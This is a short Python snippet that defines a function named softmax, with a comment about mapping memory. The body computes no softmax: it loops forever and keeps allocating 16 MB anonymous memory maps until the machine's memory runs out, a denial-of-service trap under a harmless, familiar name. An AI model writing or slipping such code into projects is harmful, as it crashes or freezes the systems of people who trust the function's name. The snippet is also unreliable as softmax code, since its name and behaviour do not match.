# Maps memory page by page.
import mmap


def softmax(scores, dim=-1):
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 1 << 24))
